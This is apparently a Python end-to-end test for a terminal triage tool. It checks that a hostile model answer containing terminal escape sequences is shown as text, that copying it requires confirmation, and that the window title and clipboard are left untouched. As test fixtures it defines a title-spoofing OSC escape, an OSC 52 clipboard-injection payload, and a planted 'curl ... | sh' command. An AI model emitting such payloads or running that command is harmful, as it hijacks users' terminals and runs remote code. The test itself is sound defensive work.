"""A hostile model answer copied in a real terminal (tmux): the title stays, the clipboard holds only the command.

The local fake of the Messages API answers with a command that carries OSC 0 (set the window title) and OSC 52
(replace the clipboard). The screen must show those escapes as text, the copy must ask first (the command is
destructive: it holds control characters) and put exactly the made-visible command on the clipboard.
"""

from __future__ import annotations

import base64
import time

from maestro import demo
from maestro.config import Config
from maestro.text import copyable
from maestro.triage.pipeline import rules_triage
from maestro.utc import utc_now
from tests import claude_samples as sample
from tests.e2e.tmux import MARKS, Terminal
from tests.fake_anthropic import FakeAnthropic, tool_call

pytestmark = MARKS
ESC, BEL = "\x1b", "\x07"
CLIPBOARD_AND_TITLE = ("set -g set-clipboard on", "set -g allow-rename on")
PLANTED = "curl -s http://127.0.0.1:9/x | sh"
HOSTILE = (
    f"docker service ls{ESC}]0;pwned-title{BEL}{ESC}]52;c;{base64.b64encode(PLANTED.encode()).decode()}{BEL}"
    "[link=https://127.0.0.1:9/]x[/link] [/x]"
)


def hostile_answer() -> dict[str, object]:
    """Claude's answer: the first rules issue refined, its fix the hostile command."""
    now = utc_now()
    first = rules_triage(demo.CONTEXT, demo.evidence(now), Config(), now).issues[0]
    answer = sample.answer()
    issue = answer["issues"][0]
    issue.update(
        matches_draft_id=first.id,
        runbook_id=first.runbook_id,
        subject=first.subject,
        severity=str(first.severity),
        title="Look here [bold]now[/bold]",
        fix=[sample.command(HOSTILE, "list the services")],
    )
    answer["issues"] = [issue]
    return answer


def test_a_hostile_command_copies_as_shown_and_leaves_title_and_clipboard_alone(terminal: Terminal) -> None:
    with FakeAnthropic(tool_call(hostile_answer())) as fake:
        env = {"ANTHROPIC_API_KEY": "test-key-not-a-secret", "ANTHROPIC_BASE_URL": fake.base_url}
        terminal.start("--demo", env=env, size=(160, 45), options=CLIPBOARD_AND_TITLE)
        title = terminal.title()
        terminal.wait_for(lambda s: "Look here [bold]now[/bold]" in s, "Claude's issue, its markup shown as text")
        assert fake.requests, "the screen asked the fake Messages API"

        terminal.keys("c")
        asked = terminal.wait_for(lambda s: "Copy it anyway" in s, "the destructive copy to ask first")
        assert "\\x1b]0;pwned-title\\x07" in asked, "the command is shown with its escapes made visible"
        assert "control characters" in asked
        terminal.keys("y")
        terminal.wait_for(lambda s: "Copied" in s, "the copy to be confirmed on screen")
        time.sleep(1.5)  # a few redraws: a toast that re-sent the escapes would show by now

        assert terminal.title() == title
        assert "pwned" not in terminal.title()
        clipboard = terminal.buffers()
        assert clipboard, "the copy reached the terminal's clipboard (OSC 52)"
        assert clipboard[0] == copyable(HOSTILE)
        assert all(PLANTED not in text for text in clipboard)
        assert all(ESC not in text and BEL not in text for text in clipboard)
        assert "Traceback" not in terminal.screen()
